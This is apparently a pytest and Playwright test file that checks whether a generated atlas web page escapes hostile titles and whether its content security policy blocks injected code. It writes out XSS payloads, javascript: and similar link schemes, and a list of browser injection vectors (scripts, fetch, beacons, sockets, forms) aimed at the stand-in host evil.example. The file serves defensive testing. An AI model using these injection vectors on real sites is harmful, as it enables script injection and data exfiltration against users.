"""Pages that carry payloads otherwise: the policy itself, a page without scripts, a notebook, an address, a link of another kind."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from browsing import ready
from hostile.conftest import Counted
from hostile.payloads import PAYLOADS, of_kind, plain
from hostile.watched import Watched
from playwright.sync_api import Page
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from geo import build
from geo.atlas import View

OpenPage = Callable[..., Page]
TINY = Path(__file__).resolve().parents[1] / "fixtures" / "tiny"
ALL = [text for _, text in PAYLOADS]
BLOCK = "alda-block-2020-03-04"
LINKS = [*of_kind("link"), *(f"{text}https://evil.example" for text in ("javascript:", " ", "\x01", "feed:", "view-source:", "blob:"))]


@pytest.fixture(scope="module")
def loaded_html(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The made-up atlas with every payload as the title of an incident, and addresses that no check would let through."""
    data = View.load(TINY).dataset
    block, source = data.incidents[BLOCK], data.sources["fictional-herald-2020-03-05"]
    claim = next(claim for _, claim in data.claims if claim.incident == BLOCK)
    incidents = {f"i-{k}": block.model_copy(update={"id": f"i-{k}", "title": text, "summary": text})
                 for k, text in enumerate(ALL)}
    sources = {f"s-{k}": source.model_copy(update={"id": f"s-{k}", "title": f"Source {k}", "url": text, "archived": text})
               for k, text in enumerate(LINKS)}
    claims = [(f"s-{k}", claim.model_copy(update={"incident": f"i-{k}"})) for k in range(len(LINKS))]
    made = dataclasses.replace(data, incidents=incidents, sources={**data.sources, **sources}, claims=claims, stories={})
    out = tmp_path_factory.mktemp("loaded")
    build.write(View(made, folder=TINY), out)
    return out / "index.html"


def test_addresses_of_another_kind_never_become_links(open_page: OpenPage, loaded_html: Path, counted: Counted) -> None:
    page = Watched(open_page(reduced_motion="reduce"))
    page.open(loaded_html)
    page.holds("source", page.call("visit", [f"source=s-{k}" for k in range(len(LINKS))], "#card"), [f"Source {k}" for k in range(len(LINKS))])
    leading = page.page.evaluate("[...document.querySelectorAll('a')].map((one) => one.getAttribute('href')).filter(Boolean)")
    page.wrong += [one for one in leading if not one.startswith(("https://", "http://", "#", "file:"))]
    addresses = [f"{key}={quote(text)}" for text in plain()[::16] for key in ("incident", "q")]
    page.call("visit", [*addresses, *(f"kinds={quote(text)}&sort={quote(text)}&lang={quote(text)}&story={quote(text)}&measure={quote(text)}"
                                      for text in plain()[::16])], "#list")
    page.cases += 5 * len(plain()[::16]) + len(addresses)
    page.finish(counted)


def test_a_page_without_scripts_is_a_table_of_texts(open_page: OpenPage, loaded_html: Path, counted: Counted) -> None:
    page = open_page(java_script_enabled=False)
    page.goto(loaded_html.as_uri())
    titles = [cell.strip() for cell in page.locator("noscript td:nth-child(2)").all_text_contents()]
    wrong = [text for text in ALL if " ".join(text.split()) not in {" ".join(title.split()) for title in titles}]
    made = page.locator("noscript :is(script, img, iframe, svg, style, a, form, meta, base, link)").count()
    counted("text", cases=len(ALL), failed=len(wrong) + made)
    assert (wrong, made, page.requests_seen) == ([], 0, [])


def test_a_notebook_shows_the_page_and_runs_nothing_else(open_page: OpenPage, counted: Counted) -> None:
    text = "".join(plain()[:20]) + "'\"></iframe><script>window.ran=1</script>&quot;&lt;"
    data = View.load(TINY).dataset
    # Every claim is about the one incident: such a page once did not open.
    view = View(dataclasses.replace(data, incidents={BLOCK: data.incidents[BLOCK].model_copy(update={"title": text})}, stories={},
                                    claims=[(source, claim) for source, claim in data.claims if claim.incident == BLOCK]), folder=TINY)
    drawn = build.draw(view)
    drawn.payload["title"] = drawn.payload["subtitle"] = text
    page = open_page(reduced_motion="reduce")
    page.set_content(f"<div>{drawn._repr_html_()}</div>")
    frame = page.frames[1]
    frame.wait_for_selector("html[data-ready=true]", timeout=20_000)
    shown = [frame.locator("#list .item-title").text_content(), frame.locator("h1").text_content(), page.locator("iframe").get_attribute("title")]
    counted("text", cases=3 * 21, failed=sum(one != wanted for one, wanted in zip(shown, [text, f"{text} {text}", text], strict=True)))
    assert shown == [text, f"{text} {text}", text]
    assert [page.evaluate("window.ran"), frame.evaluate("window.ran")] == [None, None]
    assert len(page.frames) == 2 and page.locator("div > *").count() == 1


INJECTED = {
    "an inline handler": "() => { const one = document.createElement('div'); one.innerHTML = '<img src=x onerror=window.ran=1>'; document.body.append(one); }",
    "a pressed handler": "() => { document.body.insertAdjacentHTML('beforeend', '<button id=press onclick=window.ran=1>x</button>'); document.getElementById('press').click(); }",
    "an inline script": "() => { const one = document.createElement('script'); one.textContent = 'window.ran=1'; document.body.append(one); }",
    "a remote script": "() => { const one = document.createElement('script'); one.src = 'https://evil.example/a.js'; document.body.append(one); }",
    "a script of data": "() => { const one = document.createElement('script'); one.src = 'data:text/javascript,window.ran=1'; document.body.append(one); }",
    "a remote picture": "() => { new Image().src = 'https://evil.example/p.gif'; }",
    "a remote style": "() => document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=https://evil.example/s.css>')",
    "an inline style sheet": "() => document.head.insertAdjacentHTML('beforeend', '<style>body{background:url(https://evil.example/b)}</style>')",
    "a frame": "() => document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>')",
    "a fetch": "() => { fetch('https://evil.example/f').catch(() => {}); }",
    "a socket": "() => { try { new WebSocket('wss://evil.example'); } catch { /* refused at once */ } }",
    "an object": "() => document.body.insertAdjacentHTML('beforeend', '<object data=https://evil.example/o></object>')",
    "a base": "() => document.head.insertAdjacentHTML('afterbegin', '<base href=https://evil.example/>')",
    "a form": "() => { document.body.insertAdjacentHTML('beforeend', '<form id=sent action=https://evil.example></form>'); document.getElementById('sent').submit(); }",
    "a script address": "() => { document.body.insertAdjacentHTML('beforeend', '<a id=led href=javascript:window.ran=1>x</a>'); document.getElementById('led').click(); }",
    "a beacon": "() => { navigator.sendBeacon('https://evil.example/b', 'x'); }",
    "a worker": "() => { try { new Worker('data:text/javascript,0'); } catch { /* refused at once */ } }",
    "a font": "() => { new FontFace('x', 'url(https://evil.example/f.woff)').load().catch(() => {}); }",
    "a sound": "() => { new Audio('https://evil.example/a.mp3').load(); }",
}


def test_the_policy_stops_what_is_injected_on_purpose(open_page: OpenPage, loaded_html: Path, counted: Counted) -> None:
    page = open_page()
    failed: dict[str, str | None] = {}
    page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
    page.add_init_script("window.stopped = 0; document.addEventListener('securitypolicyviolation', () => { window.stopped += 1; });")
    page.goto(loaded_html.as_uri())
    ready(page)
    passed = []
    for name, code in INJECTED.items():
        before = page.evaluate("stopped")
        page.evaluate(code)
        try:
            page.wait_for_function("(before) => stopped > before", arg=before, timeout=2000)
        except PlaywrightTimeout:
            passed.append(name)
        if page.evaluate("window.ran") is not None:
            passed.append(f"{name} ran")
    counted("text", cases=len(INJECTED), failed=len(passed))
    assert page.complaints  # the browser says of each that it was stopped
    page.complaints.clear()
    # The browser announces some as requests before it stops them.
    assert {url: failed.get(url) for url in page.requests_seen} == dict.fromkeys(page.requests_seen, "csp")
    page.requests_seen.clear()
    assert passed == [] and page.url.startswith(loaded_html.as_uri())
